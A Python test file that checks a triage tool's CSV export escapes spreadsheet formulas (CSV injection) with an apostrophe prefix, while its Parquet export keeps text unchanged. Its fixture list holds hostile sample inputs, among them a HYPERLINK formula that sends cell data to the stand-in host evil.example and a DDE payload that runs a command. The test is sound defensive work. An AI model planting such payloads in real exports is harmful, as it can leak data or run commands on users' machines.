"""A CSV export of traffic opened in a spreadsheet: a query is untrusted text.

A search box takes ``=HYPERLINK("http://evil.example/?"&A1,"click")`` as readily as any query,
and ``triage export q.csv`` wrote it as it was: Excel, LibreOffice and Google Sheets run a cell
that starts with ``=``, ``+``, ``-`` or ``@`` as a formula (CSV injection, OWASP). Such a text
cell gets Excel's text prefix ``'``, which the sheet shows as the text typed; the Parquet export
keeps every text exactly, and so does ``--json``.
"""

from __future__ import annotations

import csv
from pathlib import Path

import polars as pl

from goldmine.store import open_store, transaction

from helpers import build, run_cli

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0",
            "@SUM(1+1)", "-2+3", "\tleading tab"]  # fmt: skip


def store(db: Path) -> None:
    build(db)
    with open_store(db) as con, transaction(con):
        for text in FORMULAS:
            con.execute(
                """INSERT INTO triage_queries (norm_query, query, cluster_id, n_events,
                       n_sessions, sources, n_zero_results, n_no_click, n_failed, failure_rate,
                       tags) VALUES (?, ?, 99, 5, 5, ['searchlog'], 2, 3, 5, 1.0, [])""",
                [text.lower(), text],
            )
        con.execute(
            """INSERT INTO triage_clusters (cluster_id, label, volume, n_variants, n_failed,
                   failure_rate, priority, tags) VALUES (99, ?, 25, 5, 25, 1.0, 50, [])""",
            [FORMULAS[0]],
        )
        con.execute("INSERT INTO triage_runs (run_id, started_at, finished_at, status) "
                    "VALUES (1, now(), now(), 'done')")  # fmt: skip


def test_a_csv_export_never_hands_a_spreadsheet_a_formula(db_path: Path) -> None:
    store(db_path)
    out = db_path.parent / "q.csv"
    assert run_cli("--db", str(db_path), "triage", "export", str(out)).returncode == 0
    with out.open(newline="") as handle:
        rows = list(csv.DictReader(handle))
    cells = [r[c] for r in rows for c in ("query", "canonical_query", "cluster_label") if r[c]]
    assert cells, rows
    assert not [c for c in cells if c[0] in "=+-@\t\r"], cells
    assert '\'=HYPERLINK("http://evil.example/?"&A1,"click")' in cells
    exact = db_path.parent / "q.parquet"
    assert run_cli("--db", str(db_path), "triage", "export", str(exact)).returncode == 0
    assert set(FORMULAS) <= set(pl.read_parquet(exact)["query"].to_list())
